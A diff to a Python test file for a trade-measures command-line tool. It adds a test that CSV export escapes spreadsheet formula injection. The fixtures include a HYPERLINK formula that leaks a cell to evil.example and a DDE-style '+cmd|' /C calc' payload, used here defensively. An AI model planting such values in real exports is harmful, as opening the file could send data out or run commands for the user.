@@ -5,10 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 
 import pytest
 
-from tests.commands import invoked
+from tests.commands import answered, invoked
+from tests.samples import GROUP_G, action, imposed, jsonl
 
 AS_OF_HEADER = (
     "as_of,item,from,to,level,measure,status,kind,measure_level,issuer,direction,"
@@ -160,3 +162,34 @@ def test_an_as_of_table_says_certainty_and_whom_a_measure_covers(bundled: str) -
         "--store", bundled, "as-of", "2025-06-01", "-e", "Dy", "--from", "CN", "--to", "JP"
     ).stdout
     assert "cn-mofcom-2025-18 (licence_requirement, all destinations)" in licence
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_text(tmp_path: Path) -> None:
+    """A document or title beginning with = + - or @ is written with ' before it (docs/
+    output.md §7), so that opening the CSV in a spreadsheet runs nothing; a group is not."""
+    store = str(tmp_path / "store.db")
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    records = jsonl(
+        {**GROUP_G, "group": "white", "members": ["JP"]},
+        imposed("formula", document=hostile, destinations=["@white"]),
+        action("plus", title="+cmd|' /C calc'!A0", responds_to=["formula"]),
+    )
+    invoked("--store", store, "append", "-", stdin=records)
+    as_of = _rows(
+        invoked(
+            "--store", store, "as-of", "2025-06-01", "-e", "Dy", "--to", "@white", "--format", "csv"
+        ).stdout
+    )
+    fields = dict(zip(as_of[0], as_of[1], strict=True))
+    assert fields["document"] == "'" + hostile
+    assert fields["to"] == "@white"  # a group stays as it is
+    found = _rows(invoked("--store", store, "search", "calc", "--format", "csv").stdout)
+    titles = [row[found[0].index("title")] for row in found[1:]]
+    assert titles == ["'+cmd|' /C calc'!A0"]
+    timeline = invoked(
+        "--store", store, "timeline", "-e", "Dy", "--actions", "--format", "csv"
+    ).stdout
+    assert all(not cell.startswith(("=", "+")) for row in _rows(timeline) for cell in row)
+    # JSON keeps the values as they are
+    flows = answered(store, "as-of", "2025-06-01", "-e", "Dy", "--to", "@white")["flows"]
+    assert flows[0]["in_force"][0]["document"] == hostile
